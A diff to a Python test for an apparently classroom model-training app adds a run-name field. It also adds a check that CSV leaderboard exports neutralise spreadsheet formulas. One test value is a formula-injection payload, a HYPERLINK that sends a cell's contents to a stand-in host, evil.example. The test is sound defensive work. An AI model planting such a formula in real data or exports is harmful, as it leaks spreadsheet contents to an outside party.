@@ -59,9 +59,10 @@ def join(code: str, nickname: str):
     return app
 
 
-def start_training(app, epochs: int) -> str:
+def start_training(app, epochs: int, name: str = "") -> str:
     app.switch_page("pages/train.py")
     rerun(app)
+    app.text_input(key=train_state.RUN_NAME).set_value(name)
     app.slider(key=setting_key("epochs")).set_value(epochs)
     rerun(app)
     app.button(key=train_state.START).click()
@@ -91,7 +92,9 @@ def test_a_class_trains_ranks_shares_and_keeps_its_work_across_reloads(hosted):
     assert code in [element.value for element in teacher.code]
 
     ada, bob, cy = (join(code, nickname) for nickname in ("Ada", "Bob", "Cy"))
-    jobs = [start_training(student, epochs) for student, epochs in ((ada, 1), (bob, 2), (cy, 3))]
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open results")'  # Bob's run name
+    jobs = [start_training(student, epochs, name) for student, epochs, name in ((ada, 1, ""), (bob, 2, formula),
+                                                                                  (cy, 3, ""))]
 
     # A reload (or a second tab, or another device) with Ada's private link shows her run live.
     second_tab = open_app("pages/train.py", query={"ws": key_of(ada)})
@@ -114,6 +117,8 @@ def test_a_class_trains_ranks_shares_and_keeps_its_work_across_reloads(hosted):
     expected = sorted([("Ada", ada_run), ("Bob", bob_run), ("Cy", cy_run)], key=lambda pair: -accuracy[pair[1]])
     assert len(board) == 3 and list(board["student"]) == [name for name, _ in expected]
     assert list(board["rank"]) == sorted(board["rank"])
+    # The table toolbar's CSV download writes cells as they are: Bob's run name is no live formula in it.
+    assert "'" + formula in list(board["run"]) and formula not in list(board["run"])
 
     # Ada sees her rank; nobody else's run is hers to open.
     ada_class = open_app(CLASS, query={"ws": key_of(ada)})  # a reload keeps her class
